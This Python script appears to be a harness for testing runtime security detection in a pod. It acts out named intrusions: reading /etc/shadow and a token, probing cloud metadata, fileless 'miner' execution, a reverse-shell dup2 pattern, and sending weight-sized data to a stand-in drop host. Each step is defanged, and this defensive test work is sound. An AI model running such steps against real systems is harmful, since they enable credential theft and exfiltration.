"""Runs inside the pod: does one thing that ought to be noticed. Nothing of it leaves the pod or changes anything else.

Usage: misdeeds.py NAME
"""
import os
import shutil
import socket
import ssl
import subprocess
import sys

# An address for documentation (RFC 5737), and the one of the clouds' metadata services. Both are the pod's own,
# as the machine that things are sent to is the demo's.
ELSEWHERE, METADATA = "203.0.113.7", "169.254.169.254"
DROP, DROP_NAME = "198.51.100.7", "drop.example"


def shell(command):
    subprocess.run(["sh", "-c", command], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False)


def connect(address, port):
    with socket.socket() as connection:
        connection.settimeout(1)
        connection.connect_ex((address, port))


def run_from_memory():
    program = os.memfd_create("miner")
    with open("/usr/bin/true", "rb") as file:
        os.write(program, file.read())
    if os.fork() == 0:
        os.execve(program, ["miner"], {})
    os.wait()


def run_what_was_brought():
    shutil.copy("/usr/bin/true", "/tmp/miner")
    subprocess.run(["/tmp/miner"], check=False)


def reverse_shell():
    with socket.create_server((ELSEWHERE, 0)) as attacker:
        if os.fork() == 0:
            victim = socket.create_connection(attacker.getsockname())
            for number in range(3):
                os.dup2(victim.fileno(), number)
            os.execvp("true", ["true"])  # where an attacker has a shell
        os.wait()


def as_model_server(what):
    """A server that can be talked into running things is not at hand, so one is played: by its name."""
    name = "/tmp/llama-server"
    if not os.path.exists(name):
        os.symlink("/usr/bin/python3", name)
    subprocess.run([name, __file__, what], check=False)


def call_model_api():
    body = '{"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "hello"}]}'
    with open("/mnt/tls-server.port", encoding="utf-8") as file:
        port = file.read().strip()
    subprocess.run(["curl", "--silent", "--output", "/dev/null", "--cacert", "/mnt/certificate.pem", "--connect-to",
                    f"api.openai.com:443:127.0.0.1:{port}", "--header", "Content-Type: application/json", "--data", body,
                    "https://api.openai.com/v1/chat/completions"], check=True)


def send_weights_out():
    """A model of the usual size is not at hand: the tiny one is opened, and as much is sent as a real one has."""
    with open("/mnt/tiny.gguf", "rb") as file:
        part = file.read().ljust(1 << 20, b"\0")[:1 << 20]
    context = ssl.create_default_context(cafile="/mnt/certificate.pem")
    with socket.create_connection((DROP, 443)) as connection:
        with context.wrap_socket(connection, server_hostname=DROP_NAME) as stream:
            for _ in range(110):
                stream.sendall(part)


MISDEEDS = {
    "shell": lambda: shell("id"),
    "passwords": lambda: subprocess.run(["cat", "/etc/shadow"], stdout=subprocess.DEVNULL, check=False),
    "secret": lambda: subprocess.run(["cat", "/etc/secrets/token"], stdout=subprocess.DEVNULL, check=False),
    "metadata": lambda: connect(METADATA, 80),
    "brought": run_what_was_brought,
    "memory": run_from_memory,
    "reverse": reverse_shell,
    "tool-call": lambda: as_model_server("shell"),
    "exfiltration": lambda: as_model_server("connect"),
    "connect": lambda: connect(ELSEWHERE, 443),
    "api": call_model_api,
    "weights": send_weights_out,
}

if __name__ == "__main__":
    MISDEEDS[sys.argv[1]]()
